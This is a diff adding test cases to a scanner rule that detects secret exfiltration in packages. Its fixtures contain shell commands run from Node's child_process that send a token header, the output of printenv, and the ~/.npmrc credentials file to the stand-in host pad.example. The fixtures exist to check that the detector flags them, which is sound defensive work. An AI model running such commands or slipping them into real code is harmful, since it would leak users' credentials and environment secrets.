@@ -32,6 +32,14 @@ testRule(secretsExfiltrated, {
       }),
     },
     {
+      name: 'a token in the header of a command',
+      subject: upgrade,
+      facts: await codeFacts(pad, {
+        'index.js':
+          "module.exports = () => require('child_process').execSync('curl -H \"Authorization: $PAD_TOKEN\" https://pad.example')",
+      }),
+    },
+    {
       name: 'a named variable in a request',
       subject: addition,
       facts: await added({
@@ -126,6 +134,21 @@ testRule(secretsExfiltrated, {
             1,
             27,
           ],
+        ),
+      ],
+    },
+    {
+      name: 'commands that send the environment, or a file of credentials',
+      subject: upgrade,
+      facts: await codeFacts(pad, {
+        'index.js':
+          "const { exec } = require('child_process')\nexec('printenv | curl -d @- https://pad.example')\nexec('curl -F f=@$HOME/.npmrc https://pad.example')",
+      }),
+      observations: [
+        observation(
+          'critical',
+          ['command that sends secrets', 'printenv | curl -d @- https://pad.example', 'index.js', 2, 1],
+          ['command that sends secrets', 'curl -F f=@$HOME/.npmrc https://pad.example', 'index.js', 3, 1],
         ),
       ],
     },
